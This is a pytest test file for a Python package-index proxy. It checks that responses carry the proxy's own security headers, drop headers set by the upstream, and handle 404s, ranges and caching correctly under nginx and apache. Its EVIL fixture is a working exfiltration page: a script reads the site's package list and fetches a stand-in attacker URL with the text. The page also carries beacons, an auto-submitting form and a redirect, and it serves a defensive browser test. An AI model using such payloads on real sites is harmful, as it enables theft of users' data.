"""What every answer says to a browser, and what no upstream can say to one, or to a server in front of this one."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest

from rewritegen.response_headers import DROPPED, OWN
from tests.support import trees
from tests.support.browser import Browser, browser
from tests.support.compare import hrefs
from tests.support.exchange import Recorded, Reply
from tests.support.processes import free_port, traversable_directory, wait_until
from tests.support.recorder import Recorder
from tests.support.scenes import wheels
from tests.support.sites import LiveSite, index_site, start_site, write_site
from tests.support.tools import require
from tests.support.upstream import FileHost, Index, upstream
from tests.support.wire import ask

pytestmark = pytest.mark.server

SAYS = "said-by-the-upstream"
SECONDS = 60
A_YEAR = "public, max-age=31536000"


class Elsewhere(Recorder):
    """Where a page sends what it has read."""

    def reply(self, request: Recorded) -> Reply:
        del request
        return Reply(200, {"Content-Type": "text/html"}, b"x")


class Talkative(Index):
    """An index that says all that an upstream may not say, with each of its answers; its file host does, too."""

    def __init__(self, *names: str) -> None:
        super().__init__(wheels(*names))
        host = TalkativeFiles()
        host.content = self.files.content
        self.files = host

    def reply(self, request: Recorded) -> Reply:
        """An ordinary answer, and all the headers."""
        return talkative(super().reply(request))


class TalkativeFiles(FileHost):
    """The same for files."""

    def reply(self, request: Recorded) -> Reply:
        """An ordinary answer of another type, and all the headers."""
        reply = talkative(super().reply(request))
        return Reply(reply.status, {**reply.headers, "Content-Type": "text/html"}, reply.body)


def talkative(reply: Reply) -> Reply:
    """An answer with all those headers as well, that wants to be kept; what is not there says so in HTML."""
    headers = {**reply.headers, **dict.fromkeys(DROPPED, SAYS), "Cache-Control": A_YEAR}
    if reply.status != 404:
        return Reply(reply.status, headers, reply.body)
    return Reply(404, {**headers, "Content-Type": "text/html"}, f"<h1>{SAYS}</h1>".encode())


@dataclass
class World:
    """A site on one server, with copies and without, and its talkative index."""

    index: Talkative
    lives: dict[str, LiveSite]


@pytest.fixture(scope="module", params=["nginx", "apache"])
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    require(request.param)
    with contextlib.ExitStack() as stack:
        root = stack.enter_context(traversable_directory())
        index, own = Talkative("wanted-1.0", "evil-1.0"), Talkative("ours-here-1.0")
        for one in (index, own):
            stack.enter_context(upstream(one))
        team = trees.projects(root / "team", wheels("acme-foo-1.0"))
        mirror = trees.bandersnatch(root / "mirror", wheels("mirrored-1.0"))
        up: dict[str, object] = {
            "name": "up",
            "proxy": index.url,
            "files": [f"{index.files.origin}/"],
            "retry": "1s",
        }
        up["kind"] = "pypi"
        ours = {"name": "own", "proxy": own.url, "files": [f"{own.files.origin}/"]}
        ours |= {"kind": "pypi", "claims": ["ours-*"]}
        settings = {
            "state": str(root / "state"),
            "legacy_json": True,
            "private": [{"name": "team", "path": str(team), "claims": ["acme-*"]}, ours],
            "fallbacks": [{"name": "copy", "mirror": str(mirror)}, up],
        }
        lives = {}
        kept = {"cache": {"path": str(root / "cache"), "pages": "1h"}}
        for label, more in (("plain", {}), ("copies", kept)):
            site = write_site(root / f"{label}.yaml", {**settings, **more}, free_port())
            index_site(site)
            lives[label] = start_site(request.param, site, root / label)
            stack.callback(lives[label].server.stop)
        yield World(index, lives)


def _target(world: World, label: str, row: str) -> str:
    """The URL of a row; that of a file is where the page links to."""
    if row != "FILE":
        return row
    page = f"{world.lives[label].url}wanted/"
    return urlsplit(
        urljoin(page, hrefs(ask(world.lives[label].port, "/simple/wanted/").body)[0])
    ).path


#: What is asked for, with which request headers, and the statuses that are right.
ROWS: dict[str, tuple[str, dict[str, str], set[int]]] = {
    "the list": ("/simple/", {}, {200}),
    "private page": ("/simple/acme-foo/", {}, {200}),
    "private file": ("/files/team/acme-foo/acme_foo-1.0-py2.py3-none-any.whl", {}, {200}),
    "private, not here": ("/simple/acme-none/", {}, {404}),
    "mirrored page": ("/simple/mirrored/", {}, {200}),
    "page": ("/simple/wanted/", {}, {200}),
    "page, again": ("/simple/wanted/", {}, {200}),
    "compressed page": ("/simple/wanted/", {"Accept-Encoding": "gzip"}, {200}),
    "compressed page, again": ("/simple/wanted/", {"Accept-Encoding": "gzip"}, {200}),
    "document": ("/pypi/wanted/json", {}, {200}),
    "document, again": ("/pypi/wanted/json", {}, {200}),
    "file": ("FILE", {}, {200}),
    "file, again": ("FILE", {}, {200}),
    "part of a file": ("FILE", {"Range": "bytes=0-9"}, {206}),
    "no part of a file": ("FILE", {"Range": "bytes=99999999-"}, {416}),
    "nobody has it": ("/simple/nobody/", {}, {404}),
    "nobody has it, again": ("/simple/nobody/", {}, {404}),
    "no document": ("/pypi/nobody/json", {}, {404}),
    "no file": ("/files/up/packages/none-1.0.tar.gz", {}, {404}),
    "ours": ("/simple/ours-here/", {}, {200}),
    "ours, not here": ("/simple/ours-none/", {}, {404}),
    "no file of ours": ("/files/own/packages/none-1.0.tar.gz", {}, {404}),
    "spelled": ("/simple/Wanted/", {}, {301}),
    "outside": ("/simple/../x", {}, {404}),
    "health": ("/-/health", {}, {200}),
}


@pytest.mark.parametrize("label", ["plain", "copies"])
@pytest.mark.parametrize("row", ROWS)
def test_every_answer_has_ours_once_and_none_of_theirs(world: World, label: str, row: str) -> None:
    target, headers, statuses = ROWS[row]
    target = _target(world, label, target)
    for method in ("GET", "HEAD"):
        answer = ask(world.lives[label].port, target, method, headers=headers.items())
        # a HEAD of a file may be asked for without its range
        assert answer.status in statuses | ({200} if method == "HEAD" else set())
        for name, value in OWN:
            # nginx writes its headers twice when a copy has no such range
            found = answer.all(name)[: 1 if answer.status == 416 else None]
            assert found == (value,), name
        said = [name for name, value in answer.headers if SAYS in value]
        assert said == []
    answer = ask(world.lives[label].port, target, "POST", headers=headers.items())
    assert [answer.all(name) for name, _ in OWN] == [(value,) for _, value in OWN]


#: What upstreams are asked for and do not have.
ABSENT = ("nobody has it", "no document", "no file", "ours, not here")


@pytest.mark.parametrize("label", ["plain", "copies"])
@pytest.mark.parametrize("row", [row for row in ROWS if row.startswith(ABSENT)])
def test_what_nobody_has_is_said_in_our_words(world: World, label: str, row: str) -> None:
    """An upstream's 404 is shown to nobody, and believed for a minute at the most: the name may become private."""
    target, headers, _ = ROWS[row]
    for accept in ("text/html", "application/vnd.pypi.simple.v1+json", "*/*"):
        for packed in ("identity", "gzip"):
            given = [*headers.items(), ("Accept-Encoding", packed)]
            answer = ask(world.lives[label].port, target, accept=accept, headers=given)
            assert answer.status == 404
            assert SAYS.encode() not in answer.decoded
            assert (
                b"here" in answer.decoded or b"no s" in answer.decoded or b"have" in answer.decoded
            )
            said = answer.one("Cache-Control") or ""
            assert re.fullmatch(r"no-cache(?:, no-store)?|max-age=(?:0|60), must-revalidate", said)


@pytest.mark.parametrize("label", ["plain", "copies"])
@pytest.mark.parametrize("headers", [{}, {"Range": "bytes=0-9"}], ids=["whole", "part"])
def test_files_are_octets_and_stay_as_they_are(
    world: World, label: str, headers: dict[str, str]
) -> None:
    for _ in range(2):
        answer = ask(
            world.lives[label].port, _target(world, label, "FILE"), headers=headers.items()
        )
        assert answer.status == (206 if headers else 200)
        assert answer.content_type == "application/octet-stream"
        assert re.fullmatch(r"max-age=\d+, immutable", answer.one("Cache-Control") or "")


@pytest.mark.parametrize("label", ["plain", "copies"])
@pytest.mark.parametrize("target", ["/simple/acme-foo/", "/simple/wanted/", "FILE"])
def test_a_304_does_not_change_them(world: World, label: str, target: str) -> None:
    port, target = world.lives[label].port, _target(world, label, target)
    tag = ask(port, target).one("ETag") or '"none"'
    again = ask(port, target, headers=[("If-None-Match", tag)])
    assert again.status in (200, 304)
    assert [again.all(name) for name, _ in OWN] == [(value,) for _, value in OWN]
    assert [name for name, value in again.headers if SAYS in value] == []


@pytest.mark.parametrize("label", ["plain", "copies"])
def test_failures_have_them_too(world: World, label: str) -> None:
    world.index.set_mode("500")
    try:
        for target in ("/simple/unknown/", "/pypi/unknown/json"):
            answer = ask(world.lives[label].port, target)
            assert answer.status in (502, 503)
            assert [answer.all(name) for name, _ in OWN] == [(value,) for _, value in OWN]
    finally:
        world.index.set_mode("ok")
    world.index.files.set_mode("500")
    try:
        answer = ask(world.lives[label].port, "/files/up/packages/new-1.0.tar.gz")
        assert answer.status in (502, 503)
        assert [answer.all(name) for name, _ in OWN] == [(value,) for _, value in OWN]
    finally:
        world.index.files.set_mode("ok")


EVIL = """
<a id="back" href="../">back</a>
<script>
  new Image().src = "{there}/image";
  fetch(location.origin + "/simple/")
    .then(answer => answer.text()).then(text => fetch("{there}/stolen?" + encodeURIComponent(text)));
</script>
<style>@import "{there}/import"; body {{ background: url("{there}/background") }}</style>
<img src="{there}/img"><iframe src="{there}/frame"></iframe><object data="{there}/object"></object>
<form action="{there}/form" method="post"><input autofocus onfocus="this.form.submit()"></form>
<link rel="prefetch" href="{there}/prefetch"><link rel="stylesheet" href="{there}/sheet">
<base href="{there}/base/">
<meta http-equiv="refresh" content="0;url={there}/refresh">
"""


@pytest.mark.slow
def test_an_evil_page_does_nothing_in_a_browser_and_can_be_left(
    world: World, tmp_path: Path
) -> None:
    """It sends what it reads where it is at home, and nothing at all through us; links and downloads work."""
    require("chromium")
    elsewhere = Elsewhere()
    elsewhere.open()
    try:
        world.index.extra["evil"] = EVIL.format(there=elsewhere.origin).encode()
        with browser(tmp_path) as page:
            page.begin(f"{world.index.url}evil/")
            wait_until(lambda: elsewhere.asked("/stolen"), "it can be evil", SECONDS)
            wait_until(lambda: elsewhere.asked("/refresh"), "it can lead away", SECONDS)
            page.open("about:blank")
            elsewhere.forget()
            for live in world.lives.values():
                _looked_at(page, live, elsewhere)
    finally:
        elsewhere.refuse()


def _looked_at(page: Browser, live: LiveSite, elsewhere: Elsewhere) -> None:
    """A person looks at the evil page, goes back to the list, and saves a file."""
    page.open(f"{live.url}evil/")
    page.click('a[href*=".whl"]')
    # the name is there before the file is: empty at first, then beside the one that is written and renamed to it
    wait_until(lambda: _saved(page) == wheels("evil-1.0")["evil"], "its file is saved", SECONDS)
    for name in _saved(page):
        (page.downloads / name).unlink()
    page.click("#back")
    page.arrive()
    assert page.url == live.url
    # the browser may still ask for the icon of where the page led at home; led there again, it would ask for more
    assert [r for r in elsewhere.requests if r.target != "/favicon.ico"] == []


def _saved(page: Browser) -> dict[str, bytes]:
    """Name -> content of what the browser has saved; what it renames meanwhile is not there yet."""
    found = {}
    for path in page.downloads.iterdir():
        with contextlib.suppress(FileNotFoundError):
            found[path.name] = path.read_bytes()
    return found
